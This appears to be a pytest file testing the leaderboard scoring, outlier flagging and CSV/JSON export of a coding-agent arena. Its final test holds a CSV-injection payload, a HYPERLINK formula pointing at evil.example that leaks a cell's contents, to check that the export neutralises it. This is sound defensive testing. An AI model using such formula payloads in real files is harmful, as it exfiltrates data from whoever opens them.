from __future__ import annotations

import math
import random

import pytest
from scipy import stats as scipy_stats
from support.scoring_builders import make_input, make_run, make_submission, make_task

from arena_bot.core.config import ArenaConfig, ReviewConfig, ScoringConfig
from arena_bot.core.errors import InputError
from arena_bot.scoring.export import to_csv, to_json
from arena_bot.scoring.inputs import ScoringInputs, ScoringOptions
from arena_bot.scoring.leaderboard import build_leaderboard
from arena_bot.scoring.stats import pass_at_k

OPTIONS = ScoringOptions()


def board(tasks, items, **options):
    tasks = {t.id: t for t in tasks}
    opts = ScoringOptions(**options) if options else OPTIONS
    return build_leaderboard(ScoringInputs(tasks=tasks, submissions=items), options=opts)


def spread(n: int, *, task_id: str = "demo", **run_overrides) -> list:
    """n evaluated single-run submissions with growing tokens / calls / time / cost."""
    items = []
    for k in range(n):
        run = make_run(
            tokens={"total": 10_000 * (k + 1)}, tool_calls=10 + 2 * k,
            execution_time=100.0 + 50 * k, estimated_cost=0.0, **run_overrides,
        )
        items.append(make_input(f"s{k}", make_submission(task_id, runs=[run],
                                                         model=f"model-{k}")))
    return items


def entry(lb, key):
    return next(e for e in lb.entries if e.key == key)


def test_pending_and_failed_are_listed_but_not_ranked_or_in_baselines() -> None:
    items = spread(5)
    items.append(make_input("late", make_submission(runs=[make_run(tokens={"total": 1})]),
                            evaluated=False))
    items.append(make_input("broken", make_submission(), error="docker died"))
    lb = board([make_task()], items)
    [task] = lb.tasks
    assert (task.scored, task.pending, task.errors) == (5, 1, 1)
    assert task.baseline.source == "dynamic" and task.baseline.submission_count == 5
    assert task.baseline.tokens.min == 10_000  # the pending 1-token run does not count
    late, broken = entry(lb, "demo/late"), entry(lb, "demo/broken")
    assert late.status == "pending" and late.rank is None and late.scores is None
    assert broken.status == "error" and "docker died" in (broken.status_reason or "")


def test_default_baseline_below_five_submissions_dynamic_from_five() -> None:
    task = make_task(baseline={"min_tokens": 1000, "median_tokens": 30_000,
                               "max_tokens": 90_000})
    lb4 = board([task], spread(4))
    baseline = lb4.tasks[0].baseline
    assert baseline.source == "default" and baseline.tokens.source == "default"
    assert (baseline.tokens.min, baseline.tokens.max) == (1000, 90_000)
    assert baseline.tokens.q25 is None
    # s0 has 10,000 tokens: (90,000 − 10,000) / (90,000 − 1,000)
    s0 = entry(lb4, "demo/s0")
    assert s0.scores.efficiency_parts.token == pytest.approx(100 * 80_000 / 89_000, abs=0.005)
    lb5 = board([task], spread(5))
    dynamic = lb5.tasks[0].baseline
    assert dynamic.source == "dynamic"
    assert (dynamic.tokens.min, dynamic.tokens.median, dynamic.tokens.max) == (
        10_000, 30_000, 50_000)
    assert dynamic.tokens.q25 == 15_000 and dynamic.tokens.q75 == 45_000
    assert dynamic.cost.source == "default"  # nobody recorded a cost


def test_identical_submissions_degenerate_baseline_is_defined() -> None:
    items = [make_input(f"s{k}", make_submission(runs=[make_run()])) for k in range(6)]
    lb = board([make_task()], items)
    for e in lb.entries:
        assert e.scores.efficiency_parts.token == 100.0
        assert e.scores.speed == 100.0
        assert e.rank == 1 and e.percentile == 50.0
        assert not any(math.isnan(v) for v in e.scores.model_dump(exclude={
            "weights", "efficiency_parts", "correctness"}).values())


def test_missing_time_and_cost_score_50_with_a_note() -> None:
    items = [make_input("s", make_submission(runs=[make_run(execution_time=0.0)]))]
    lb = board([make_task()], items)
    e = entry(lb, "demo/s")
    assert e.scores.speed == 50.0 and e.scores.cost == 50.0
    assert e.metrics.execution_time is None
    assert any("speed scored 50" in n for n in e.notes)


def test_multi_run_submission_uses_mean_metrics_and_t_interval() -> None:
    runs = [make_run("r1", tokens={"total": 20_000}, execution_time=100.0),
            make_run("r2", tokens={"total": 40_000}, execution_time=300.0),
            make_run("r3", tokens={"total": 30_000}, execution_time=200.0)]
    items = [make_input("multi", make_submission(runs=runs),
                        passed={"r1": True, "r2": False, "r3": True})]
    lb = board([make_task()], items)
    e = entry(lb, "demo/multi")
    assert e.metrics.tokens == 30_000 and e.metrics.execution_time == 200.0
    overall = [r.overall for r in e.runs]
    assert e.interval.count == 3
    mean = sum(overall) / 3
    sd = math.sqrt(sum((x - mean) ** 2 for x in overall) / 2)
    margin = scipy_stats.t.ppf(0.975, 2) * sd / math.sqrt(3)
    assert e.interval.low == pytest.approx(max(0, mean - margin), abs=0.02)
    assert e.interval.high == pytest.approx(min(100, mean + margin), abs=0.02)
    assert [p.k for p in e.pass_at_k] == [1]
    assert e.pass_at_k[0].value == pytest.approx(pass_at_k(n=3, c=2, k=1), abs=1e-4)
    assert e.correctness[0].score == pytest.approx(200 / 3, abs=0.01)


def test_ties_share_rank_and_percentiles_are_mid_rank() -> None:
    items = spread(5)
    items.append(make_input("twin", make_submission(runs=[make_run(
        tokens={"total": 10_000}, tool_calls=10, execution_time=100.0, estimated_cost=0.0)],
        model="model-0")))
    lb = board([make_task()], items)
    s0, twin = entry(lb, "demo/s0"), entry(lb, "demo/twin")
    assert s0.scores.overall == twin.scores.overall
    assert s0.rank == twin.rank == 1
    assert s0.rank_shared and twin.rank_shared and not entry(lb, "demo/s1").rank_shared
    assert entry(lb, "demo/s1").rank == 3
    assert s0.percentile == pytest.approx(100 * (4 + 1) / 6, abs=1e-4)
    ranks = sorted(e.rank for e in lb.entries)
    assert ranks == [1, 1, 3, 4, 5, 6]
    assert s0.category_ranks.efficiency == twin.category_ranks.efficiency == 1


def test_statistical_ties_with_the_leader() -> None:
    def runs(base: int) -> list:
        return [make_run(f"r{j}", tokens={"total": base + 1000 * j}) for j in range(3)]

    items = [make_input(f"s{k}", make_submission(runs=runs(10_000 + 100 * k))) for k in range(5)]
    items.append(make_input("far", make_submission(runs=[
        make_run(f"r{j}", tokens={"total": 300_000 + j}, tool_calls=80,
                 execution_time=1500.0) for j in range(3)]), passed=False))
    lb = board([make_task()], items)
    leader = next(e for e in lb.entries if e.rank == 1)
    far = entry(lb, "demo/far")
    assert leader.statistically_tied
    assert far.statistically_tied is False
    assert far.significance_rank > 1
    assert leader.significance_rank == 1


def test_seed_outlier_flags_need_two_for_review() -> None:
    items = spread(6)
    items.append(make_input("quick", make_submission(runs=[make_run(
        tokens={"total": 1000}, tool_calls=1, execution_time=3.0)])))
    items.append(make_input("one", make_submission(runs=[make_run(tool_calls=1)])))
    lb = board([make_task()], items)
    quick = entry(lb, "demo/quick")
    codes = {f.code for f in quick.outliers}
    assert {"extremely_efficient_tokens", "extremely_fast", "minimal_tool_usage"} <= codes
    assert quick.review_status == "under-review" and quick.rank is None
    # Its seed heuristics are review flags; its robust z-scores are shown as outliers only.
    assert {f.kind for f in quick.review_flags} == {c for c in codes if not c.startswith("robust")}
    assert {f.source for f in quick.review_flags} == {"outlier"}
    one = entry(lb, "demo/one")
    assert [f.code for f in one.outliers if f.kind == "seed"] == ["minimal_tool_usage"]
    assert not any(f.kind != "seed" for f in one.outliers)
    assert one.review_status == "none" and not one.review_flags and one.rank is not None
    # The held entry takes no rank: the others' ranks run 1..n without a gap.
    ranks = sorted(e.rank for e in lb.entries if e.rank is not None)
    assert ranks[0] == 1 and len(ranks) == len(lb.entries) - 1


def test_robust_z_flags_an_extreme_token_count() -> None:
    rng = random.Random(5)
    items = []
    for k in range(9):
        tokens = int(50_000 * math.exp(rng.uniform(-0.2, 0.2)))
        items.append(make_input(f"s{k}", make_submission(runs=[make_run(
            tokens={"total": tokens})])))
    items.append(make_input("huge", make_submission(runs=[make_run(
        tokens={"total": 5_000_000})])))
    lb = board([make_task()], items)
    huge = entry(lb, "demo/huge")
    flag = next(f for f in huge.outliers if f.code == "robust_tokens")
    assert "unusually high" in flag.reason
    # Shown as an outlier; a review flag (holding the entry) only with review.robust.
    assert huge.review_status == "none" and huge.rank is not None
    strict = board([make_task()], items,
                   config=ArenaConfig(review=ReviewConfig(robust=True)))
    held = entry(strict, "demo/huge")
    assert held.review_status == "under-review" and held.rank is None
    assert [f.kind for f in held.review_flags] == ["robust_tokens"]
    assert not any(f.code == "robust_tokens" for e in lb.entries if e.key != "demo/huge"
                   for f in e.outliers)


def test_token_totals_and_cost_against_price_table() -> None:
    bad_tokens = make_run(tokens={"total": 1000, "prompt": 5000})
    # gpt-5: 1.25 in, 10 out per Mtoken; 800k prompt + 200k completion = $1 + $2 = $3
    cheap = make_run(tokens={"total": 1_000_000, "prompt": 800_000, "completion": 200_000},
                     estimated_cost=0.30)
    fair = make_run(tokens={"total": 1_000_000, "prompt": 800_000, "completion": 200_000},
                    estimated_cost=3.10)
    unknown = make_run(tokens={"total": 1_000_000}, estimated_cost=99.0)
    items = [
        make_input("tokens", make_submission(runs=[bad_tokens])),
        make_input("cheap", make_submission(runs=[cheap], model="gpt-5")),
        make_input("fair", make_submission(runs=[fair], model="openai/GPT-5-2025-08-07")),
        make_input("unknown", make_submission(runs=[unknown], model="house-model")),
    ]
    lb = board([make_task()], items)
    assert any(f.code == "token_totals" for f in entry(lb, "demo/tokens").outliers)
    cheap_flag = next(f for f in entry(lb, "demo/cheap").outliers
                      if f.code == "cost_vs_price_table")
    assert "$0.3000" in cheap_flag.reason and "$1.0000..$9.0000" in cheap_flag.reason
    assert not entry(lb, "demo/fair").outliers
    assert not entry(lb, "demo/unknown").outliers


def test_identical_patches_under_different_names_are_flagged() -> None:
    items = [
        make_input("a", make_submission(tool="Aider"), digests={"r1": ("abc",)}),
        make_input("b", make_submission(tool="Cursor"), digests={"r1": ("abc",)}),
        make_input("c", make_submission(tool="Codex"), digests={"r1": ("def",)}),
    ]
    lb = board([make_task()], items)
    a = entry(lb, "demo/a")
    assert [f.code for f in a.outliers] == ["identical_patch"]
    assert "demo/b" in a.outliers[0].reason and a.review_status == "under-review"
    assert not entry(lb, "demo/c").outliers


def test_unscored_judge_criteria_renormalise_weights_with_notes() -> None:
    task = make_task(success_criteria=[{"type": "llm_judge", "rubric": "good?"}])
    lb = board([task], [make_input("s", make_submission(runs=[make_run(final_answer="x")]))])
    e = entry(lb, "demo/s")
    assert e.scores.correctness is None
    assert e.scores.weights.correctness == 0.0
    assert sum(e.scores.weights.model_dump().values()) == pytest.approx(1.0, abs=1e-3)
    assert e.correctness[0].score is None and "no judge" in e.correctness[0].note
    assert any("correctness unscored" in n for n in e.notes)
    assert any("No LLM judge configured" in n for n in lb.notes)


def test_category_weights_and_difficulty_cap() -> None:
    task = make_task(category="debugging", difficulty="advanced")
    lb = board([task], spread(5))
    e = entry(lb, "demo/s0")
    assert e.scores.weights.speed == 0.35 and e.scores.difficulty_multiplier == 1.2
    assert e.scores.overall == pytest.approx(min(100, e.scores.overall_unadjusted * 1.2),
                                             abs=0.01)
    default = board([task], spread(5),
                    config=ArenaConfig(scoring=ScoringConfig(weights="default")))
    assert entry(default, "demo/s0").scores.weights.efficiency == 0.35


def test_validation_rules_of_the_seed_run_on_every_entry() -> None:
    lb = board([make_task()], [make_input("tiny", make_submission(runs=[make_run(
        tokens={"total": 5}, tool_calls=2, execution_time=61.0)]))])
    messages = entry(lb, "demo/tiny").validation
    assert "Suspiciously low token count" in messages
    assert "Suspicious: Both efficiency and speed scores are extremely high" in messages


def test_output_is_deterministic_and_independent_of_input_order() -> None:
    tasks = [make_task(), make_task("other", category="refactoring")]
    items = spread(6) + spread(3, task_id="other")
    items.append(make_input("p", make_submission(), evaluated=False))
    first = board(tasks, items)
    shuffled = list(items)
    random.Random(1).shuffle(shuffled)
    second = board(list(reversed(tasks)), shuffled)
    assert to_json(first) == to_json(second)
    assert to_csv(first) == to_csv(second)
    assert "-0.0" not in to_json(first)


def test_tool_aggregates_rank_labels() -> None:
    items = spread(5)
    lb = board([make_task()], items)
    assert [a.rank for a in lb.tools] == sorted(a.rank for a in lb.tools)
    top = lb.tools[0]
    assert top.label == "Aider / model-0" and top.submissions == 1
    assert top.overall.low is None  # one submission: no interval


def test_bad_inputs_raise_input_errors() -> None:
    with pytest.raises(InputError, match="not in the dataset"):
        board([make_task("other")], spread(1))
    item = spread(1)[0]
    with pytest.raises(InputError, match="appear twice"):
        board([make_task()], [item, item])


def test_empty_inputs_give_an_empty_leaderboard() -> None:
    lb = board([make_task()], [])
    assert lb.entries == [] and lb.tools == []
    assert lb.tasks[0].baseline.source == "default"


def test_tool_board_is_the_difficulty_weighted_mean_of_task_scores() -> None:
    from arena_bot.scoring.leaderboard import AggregateRow, aggregates

    def row(label: str, task: str, overall: float, multiplier: float) -> AggregateRow:
        return AggregateRow(label=label, tool=label, model="m", task_id=task, overall=overall,
                            multiplier=multiplier, correctness=None, resolve_rate=1.0, runs=1,
                            pass_at_k=())

    rows = [
        # Many submissions on one easy task do not outweigh the other task.
        *(row("A", "easy", 90.0, 1.0) for _ in range(5)),
        row("A", "hard", 60.0, 1.2),
        row("B", "easy", 80.0, 1.0),
        row("B", "hard", 80.0, 1.2),
    ]
    board = {a.label: a for a in aggregates(rows, ScoringOptions())}
    assert board["A"].overall.mean == pytest.approx((90 * 1.0 + 60 * 1.2) / 2.2, abs=0.01)
    assert board["A"].tasks == 2 and board["A"].submissions == 6
    assert board["B"].overall.mean == pytest.approx(80.0)
    assert board["B"].rank == 1 and board["A"].rank == 2


def test_the_csv_holds_no_formula_a_contributor_wrote() -> None:
    """A tool named ``=HYPERLINK(...)`` passes validation; the published CSV opened in a
    spreadsheet ran it (CSV injection). Such a cell is written with a leading quote, read
    back by the csv module as the text with that quote, and other names are untouched."""
    import csv
    import io

    hostile = '=HYPERLINK("https://evil.example/?"&A1,"details")'
    items = [
        make_input("a", make_submission(tool=hostile, contributor="@mallory", model="+x")),
        make_input("b", make_submission(tool="Aider", contributor="-dash", model="gpt-5")),
    ]
    rows = list(csv.DictReader(io.StringIO(to_csv(board([make_task()], items)))))
    by_key = {row["key"]: row for row in rows}
    assert by_key["demo/a"]["tool"] == "'" + hostile
    assert by_key["demo/a"]["contributor"] == "'@mallory"
    assert by_key["demo/a"]["model"] == "'+x"
    assert by_key["demo/a"]["label"].startswith("'=HYPERLINK")
    assert by_key["demo/b"]["tool"] == "Aider" and by_key["demo/b"]["model"] == "gpt-5"
    assert by_key["demo/b"]["contributor"] == "'-dash"
    for row in rows:
        assert not any(str(value).startswith(("=", "+", "-", "@")) for value in row.values()
                       if value and not value.lstrip("-").replace(".", "").isdigit())
